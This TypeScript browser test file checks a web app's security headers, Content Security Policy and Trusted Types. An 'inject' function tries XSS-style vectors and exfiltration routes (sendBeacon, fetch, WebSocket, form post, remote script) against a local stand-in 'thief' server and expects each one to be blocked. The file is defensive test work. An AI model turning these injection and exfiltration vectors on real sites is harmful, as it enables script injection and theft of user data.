import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { HEADERS } from "../../src/shell/headers.ts";
import { APP, expect, test } from "./support/launch.ts";

test("the app is served with every header, and is cross-origin isolated", async ({ open }) => {
  const page = await open();
  const answer = await page.request.get(APP);
  const sent = answer.headers();
  for (const [name, value] of Object.entries(HEADERS)) expect(sent[name.toLowerCase()], name).toBe(value);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test("what somebody managed to put into the page can neither run nor send anything away", async ({
  open,
}) => {
  const asked: string[] = [];
  const thief = createServer((request, answer) => {
    asked.push(`${request.method} ${request.url}`);
    answer
      .setHeader("Access-Control-Allow-Origin", "*")
      .setHeader("Cross-Origin-Resource-Policy", "cross-origin");
    answer.end("globalThis.stolen = true");
  });
  await new Promise<void>((listening) => thief.listen(0, "127.0.0.1", listening));
  const away = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/`;
  const page = await open({ also: away });
  await page.request.get(`${away}before`);
  // Both the header and the page itself hold back: each thing is told twice.
  const held = new Set<string>();
  await page.exposeFunction("held", (what: string) => held.add(what));
  await page.evaluate(inject, away);
  // Where Trusted Types are known they refuse a script before the directive for scripts is asked.
  await expect
    .poll(() => [...held].sort())
    .toEqual([
      `connect-src ${away}beacon`,
      `connect-src ${away}events`,
      `connect-src ${away}fetch`,
      `connect-src ${away.replace("http", "ws")}`,
      `form-action ${away}form`,
      `frame-src ${new URL(away).origin}`,
      `img-src ${away}pixel.gif`,
      "require-trusted-types-for trusted-types-sink",
      "style-src-attr inline",
      "worker-src blob",
    ]);
  expect(await page.evaluate(() => "stolen" in globalThis)).toBe(false);
  await page.request.get(`${away}after`);
  expect(asked).toEqual(["GET /before", "GET /after"]);
  thief.closeAllConnections();
  thief.close();
});

/** In the page: tries each way of getting something in or out, and tells what the policy held back. */
function inject(away: string): void {
  const { held } = window as unknown as { held(what: string): void };
  document.addEventListener("securitypolicyviolation", (event) =>
    held(`${event.effectiveDirective} ${event.blockedURI}`),
  );
  const put = (name: string, attributes: Record<string, string>, text = "") => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.append(text);
    document.body.append(element);
    return element;
  };
  const steal = "globalThis.stolen = true";
  const deeds: (() => unknown)[] = [
    () => put("script", {}, steal),
    () => put("script", { src: `${away}script.js` }),
    () => new Function(steal)(),
    () => document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="${steal}">`),
    () => put("p", { style: `background: url(${away}style)` }),
    () => new Worker(URL.createObjectURL(new Blob([steal]))),
    () => new Worker(`${away}worker.js`),
    () => put("img", { src: `${away}pixel.gif` }),
    () => put("iframe", { src: `${away}frame` }),
    () =>
      (put("form", { action: `${away}form`, method: "post", target: "_blank" }) as HTMLFormElement).submit(),
    () => navigator.sendBeacon(`${away}beacon`, "the pose"),
    () => void fetch(`${away}fetch`, { method: "POST", body: "the pose", mode: "no-cors" }).catch(() => {}),
    () => new WebSocket(away.replace("http", "ws")),
    () => new EventSource(`${away}events`),
  ];
  // On its own: what the test's own hand does may make scripts from text.
  for (const deed of deeds) setTimeout(deed);
}
